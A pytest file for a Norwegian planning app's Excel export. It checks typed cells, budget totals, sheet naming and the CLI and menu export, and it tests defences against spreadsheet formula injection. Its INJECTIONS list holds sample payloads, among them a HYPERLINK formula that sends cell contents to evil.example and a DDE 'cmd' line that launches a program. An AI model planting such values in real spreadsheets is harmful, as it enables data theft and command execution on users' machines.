"""The accountant's workbook: File ▸ Export to Excel… and ``verktoykasse export --xlsx`` write the plan's
measures, milestones, KPIs, measurements, gaps and budget as real Excel cells (dates, numbers, kroner,
percentages) under a frozen, filterable header, in the plan's report language; and whatever a user typed,
the file opens, and nothing in it runs as a formula."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest

from safety_data import HOSTILE_TEXTS, add_full_plan
from test_cli import run_cli
from test_report_hostile import fill_every_text_field

TODAY = dt.date(2027, 11, 22)
# Text that a spreadsheet would run as a formula if it were typed into a cell.
INJECTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klikk her")',
    "+1-2",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=tab first",
    "\r=carriage return first",
]


def workbook(plan_id: int, database, language: str | None = None) -> openpyxl.Workbook:
    from verktoykasse.reports.xlsx import build_workbook
    from verktoykasse.storage.editing import load_plan

    with database.session() as session:
        data = build_workbook(load_plan(session, plan_id), TODAY, language, catalogue=None)
    return openpyxl.load_workbook(io.BytesIO(data))


def rows(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]


def column(sheet, name: str) -> int:
    return [cell.value for cell in sheet[1]].index(name)


@pytest.fixture
def full_plan(database) -> int:
    with database.session() as session:
        return add_full_plan(session).id


def test_the_workbook_has_a_sheet_per_table_named_in_bokmal_with_frozen_filtered_headers(
    qapp, database, full_plan
):
    book = workbook(full_plan, database)
    assert book.sheetnames == [
        "Tiltak",
        "Milepæler",
        "Mål",
        "KPI-er",
        "Målinger",
        "Gap",
        "Budsjett",
        "Budsjett per år",
    ]
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert all(cell.font.bold for cell in sheet[1] if cell.value), sheet.title
    measures = book["Tiltak"]
    assert [c.value for c in measures[1]][:9] == [
        "#",
        "Tiltak",
        "Mål",
        "Område",
        "Eier",
        "Ansvarlig",
        "Start",
        "Frist",
        "Status",
    ]
    # Wide enough for the title; a column of dates is as wide as a date.
    assert measures.column_dimensions["B"].width >= len("Arbeidstrening i pakkeriet")
    assert 10 <= measures.column_dimensions["G"].width <= 20


def test_english_when_the_plan_reports_in_english(qapp, database, full_plan):
    book = workbook(full_plan, database, "en")
    assert book.sheetnames[:6] == ["Measures", "Milestones", "Goals", "KPIs", "Measurements", "Gap"]
    assert book["Milestones"]["E2"].value == "Yes"


def test_each_measure_is_a_row_with_real_dates_numbers_and_kroner(qapp, database, full_plan):
    from verktoykasse.storage.editing import load_plan

    sheet = workbook(full_plan, database)["Tiltak"]
    with database.session() as session:
        plan = load_plan(session, full_plan)
        expected = [(m.title, m.start_date, m.deadline, m.cost_nok, m.hours) for m in plan.measures]
    found = rows(sheet)
    assert len(found) == len(expected)
    first = found[0]
    title, start, deadline, cost, hours = expected[0]
    assert first[0] == 1
    assert first[1] == title == "Arbeidstrening i pakkeriet"
    assert first[2] == "1, 2"  # the goals it serves, by number
    assert first[3:6] == ["Rekrutteringspraksis", "Daglig leder", "Produksjonsleder"]
    assert first[6] == dt.datetime.combine(start, dt.time())
    assert sheet["G2"].is_date and sheet["G2"].number_format == "dd.mm.yyyy"
    assert first[7] == dt.datetime.combine(deadline, dt.time())
    assert first[8] == "Forsinket (pågår)"  # open past its deadline on TODAY
    assert first[10] == cost == 12500.5
    assert sheet["K2"].data_type == "n" and "kr" in sheet["K2"].number_format
    assert first[11] == hours == 40
    subsidies = first[column(sheet, "Forventede tilskudd")]
    assert isinstance(subsidies, float) and subsidies > 0  # the planned hire's schemes pay back
    schemes = first[column(sheet, "Virkemidler som brukes")]
    assert "Kari Nordmann" in schemes


def test_the_goal_a_measure_serves_by_number_is_named_on_the_goals_sheet(qapp, database, full_plan):
    """The accountant reads "1, 2" in a measure's "Mål" column: the goals sheet says what goal 1 is, which
    KPIs follow it and which measures serve it."""
    from verktoykasse.storage.editing import load_plan

    book = workbook(full_plan, database)
    sheet = book["Mål"]
    assert [c.value for c in sheet[1]] == [
        "#",
        "Mål",
        "Gapområde",
        "Hva som endres",
        "Hvorfor det er viktig for oss",
        "Hvordan vi måler det",
        "KPI-er",
        "Tiltak",
    ]
    with database.session() as session:
        plan = load_plan(session, full_plan)
        expected = [(goal.title, [kpi.name for kpi in goal.kpis]) for goal in plan.goals]
    found = rows(sheet)
    assert [(row[0], row[1]) for row in found] == [(n, title) for n, (title, _) in enumerate(expected, 1)]
    assert found[0][6] == ", ".join(expected[0][1]) and "Nye ansatte fra målgruppen" in found[0][6]
    assert "1" in found[0][7].split(", ")  # measure 1 serves goal 1, as the measures sheet says


def test_milestones_kpis_and_measurements_keep_their_types(qapp, database, full_plan):
    book = workbook(full_plan, database)
    milestones = rows(book["Milepæler"])
    assert milestones[0] == [
        dt.datetime(2027, 3, 15),
        "Avtale med NAV",
        1,
        "Arbeidstrening i pakkeriet",
        "Ja",
    ]
    assert milestones[-1][0] is None and milestones[-1][1] == "Evaluering" and milestones[-1][4] == "Nei"

    kpi = rows(book["KPI-er"])[0]
    assert kpi[:6] == [1, "Nye ansatte fra målgruppen", "personer", 0, 3, dt.datetime(2027, 12, 31)]
    assert kpi[6] == 2.5 and kpi[7] == dt.datetime(2027, 6, 30)

    measurements = rows(book["Målinger"])
    assert measurements == [
        [1, "Nye ansatte fra målgruppen", dt.datetime(2027, 3, 31), 1, "personer", "Aisha startet"],
        [1, "Nye ansatte fra målgruppen", dt.datetime(2027, 6, 30), 2.5, "personer", None],
    ]
    gaps = rows(book["Gap"])
    assert gaps[0] == ["Rekrutteringsprosesser", 2, 4, 2, 4, "Høy", "8, 10"]
    assert gaps[1][:4] == ["Språk", 3, 5, 2] and gaps[1][6] == "4"


def test_a_kpi_in_percent_is_a_percentage_cell(qapp, database, full_plan):
    from verktoykasse.storage.models import Kpi, Measurement

    with database.session() as session:
        kpi = session.query(Kpi).first()
        kpi.unit = "%"
        kpi.baseline, kpi.target = 12.5, 30
        kpi.measurements.append(Measurement(measured_on=dt.date(2027, 9, 30), value=33))
        session.commit()
    book = workbook(full_plan, database)
    sheet = book["KPI-er"]
    assert sheet["D2"].value == pytest.approx(0.125) and sheet["D2"].number_format.endswith("%")
    assert sheet["E2"].value == pytest.approx(0.30) and sheet["E2"].number_format == "0%"
    assert sheet["G2"].value == pytest.approx(0.33)
    assert book["Målinger"]["D4"].value == pytest.approx(0.33)


def test_the_budget_adds_up_with_formulas_the_accountant_can_follow(qapp, database, full_plan):
    from verktoykasse.reports.budget_tables import plan_budget
    from verktoykasse.storage.editing import load_plan

    with database.session() as session:
        budget = plan_budget(load_plan(session, full_plan), None)
    book = workbook(full_plan, database)
    sheet = book["Budsjett"]
    body = rows(sheet)
    last = len(body) + 1  # the totals row
    assert body[-1][1] == "Hele planen"
    assert sheet[f"C{last}"].value == f"=SUM(C2:C{last - 1})"
    assert sheet[f"D{last}"].value == f"=SUM(D2:D{last - 1})"
    assert sheet[f"E{last}"].value == f"=SUM(E2:E{last - 1})"
    gross = sum(row[2] for row in body[:-1])
    assert gross == pytest.approx(budget.total.gross, abs=0.01)
    assert sum(row[3] for row in body[:-1]) == pytest.approx(budget.total.subsidies, abs=0.01)
    assert sheet.auto_filter.ref == f"A1:E{last - 1}"  # the totals stay out of the filter

    years = book["Budsjett per år"]
    per_year = rows(years)
    assert [row[0] for row in per_year[:-1]] == [str(year) for year in budget.by_year()]
    assert per_year[-1][0] == "Totalt"
    assert years[f"B{len(per_year) + 1}"].value == f"=SUM(B2:B{len(per_year)})"
    # The value Excel shows before it recalculates is the right one too.
    cached = openpyxl.load_workbook(io.BytesIO(_bytes(full_plan, database)), data_only=True)["Budsjett"]
    assert cached[f"C{last}"].value == pytest.approx(budget.total.gross, abs=0.01)


def _bytes(plan_id: int, database) -> bytes:
    from verktoykasse.reports.xlsx import build_workbook
    from verktoykasse.storage.editing import load_plan

    with database.session() as session:
        return build_workbook(load_plan(session, plan_id), TODAY, catalogue=None)


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_looks_like_a_formula_stays_text_in_every_field(qapp, database, full_plan, text):
    from verktoykasse.reports.xlsx import looks_like_formula

    with database.session() as session:
        fill_every_text_field(session, full_plan, text)
    book = workbook(full_plan, database)
    core = text.lstrip("\t\r")
    seen = 0
    for sheet in book:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if cell.data_type == "f":  # only the budget's own totals are formulas
                    assert str(cell.value).startswith("=SUM("), cell.value
                    continue
                if not isinstance(cell.value, str):
                    continue
                if core in cell.value:
                    seen += 1
                if looks_like_formula(cell.value):  # kept text even when someone edits the cell
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert seen >= 20  # titles, owners, names, notes, units … on every sheet


def test_hostile_text_gives_a_workbook_that_opens_with_the_text_in_it(qapp, database, full_plan):
    from verktoykasse.i18n import report_language
    from verktoykasse.reports.xlsx import cell_text
    from verktoykasse.storage.models import Measure

    for text in HOSTILE_TEXTS:
        with database.session() as session:
            fill_every_text_field(session, full_plan, text)
            stored = session.query(Measure).first().description
        book = workbook(full_plan, database)
        with report_language("nb"):
            expected = cell_text(stored)
        description = book["Tiltak"].cell(row=2, column=16).value
        assert (description or "") == expected, repr(text[:40])


def test_a_cell_longer_than_excel_allows_is_cut_with_a_visible_mark(qapp, database, full_plan):
    with database.session() as session:
        fill_every_text_field(session, full_plan, "Lang tekst " * 4000 + "SLUTT")
    title = workbook(full_plan, database)["Tiltak"]["B2"].value
    assert len(title) == 32_767
    assert title.startswith("Lang tekst Lang tekst")
    assert title.endswith("…(kuttet, se PDF-en)")


def test_control_characters_that_xml_forbids_are_dropped_and_lone_surrogates_shown():
    from verktoykasse.reports.xlsx import cell_text, looks_like_formula

    assert cell_text("NUL\x00midt\x01i\x1b[31m") == "NULmidti[31m"
    assert cell_text("tab\tog\r\nlinje") == "tab\tog\nlinje"
    assert cell_text("halv \ud800 emoji") == "halv \ufffd emoji"
    assert cell_text("😀" * 20_000).endswith("…(cut, see the PDF)")
    assert len(cell_text("😀" * 20_000).encode("utf-16-le")) // 2 <= 32_767
    assert all(looks_like_formula(text) for text in INJECTIONS)
    assert not looks_like_formula("Vanlig tekst = grei")


def test_sheet_names_follow_excels_rules():
    from verktoykasse.reports.xlsx import sheet_name

    used: set[str] = set()
    assert sheet_name("Tiltak", used) == "Tiltak"
    assert sheet_name("tiltak", used) == "tiltak (2)"
    assert sheet_name("Mål: [2027]/*?\\", used) == "Mål_ _2027_____"
    assert len(sheet_name("x" * 100, used)) == 31
    assert sheet_name("'sitat'", used) == "sitat"
    assert sheet_name("History", used) != "History"
    assert sheet_name("   ", used).strip()
    assert len(used) == 7


def test_cli_writes_the_workbook_whole_and_says_where(qapp, context, tmp_path: Path):
    with context.database.session() as session:
        plan_id = add_full_plan(session).id
    context.close()
    target = tmp_path / "til regnskap.xlsx"
    result = run_cli("--data-dir", str(context.paths.root), "export", str(plan_id), "--xlsx", str(target))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(target)
    book = openpyxl.load_workbook(target)
    assert book["Tiltak"]["B2"].value == "Arbeidstrening i pakkeriet"
    assert [p.name for p in tmp_path.iterdir() if p.suffix in (".xlsx", ".part")] == ["til regnskap.xlsx"]

    english = tmp_path / "for the accountant.xlsx"
    result = run_cli(
        "--data-dir", str(context.paths.root), "export", str(plan_id), "--xlsx", str(english), "--lang", "en"
    )
    assert result.returncode == 0, result.stderr
    assert openpyxl.load_workbook(english).sheetnames[0] == "Measures"


def test_file_menu_export_to_excel_saves_and_opens_the_workbook(start_window, tmp_path, monkeypatch):
    from PySide6.QtGui import QDesktopServices
    from PySide6.QtWidgets import QFileDialog

    window = start_window()
    with window.database.session() as session:
        plan_id = add_full_plan(session, "Styremøte: Inkludering/2027").id
    window.open_plan(plan_id)
    actions = window.report_actions
    assert actions.xlsx_action in window.file_menu.actions()
    assert actions.xlsx_action.isEnabled()

    asked: list[str] = []
    opened: list[str] = []

    def save_dialog(_parent, title, suggested, filters, selected=""):
        asked.append(suggested)
        assert "Excel" in title and "(*.xlsx)" in filters
        return str(tmp_path / "regnskap"), selected

    monkeypatch.setattr(QFileDialog, "getSaveFileName", staticmethod(save_dialog))
    monkeypatch.setattr(
        QDesktopServices, "openUrl", staticmethod(lambda url: opened.append(url.toLocalFile()))
    )
    actions.xlsx_action.trigger()

    assert Path(asked[0]).name.endswith(".xlsx")
    written = tmp_path / "regnskap.xlsx"
    assert opened == [str(written)]
    book = openpyxl.load_workbook(written)
    assert book.sheetnames[0] == "Tiltak"  # the plan reports in bokmål, whatever the window speaks
    assert book["Tiltak"]["B2"].value == "Arbeidstrening i pakkeriet"
    window.show_home()
    assert not actions.xlsx_action.isEnabled()
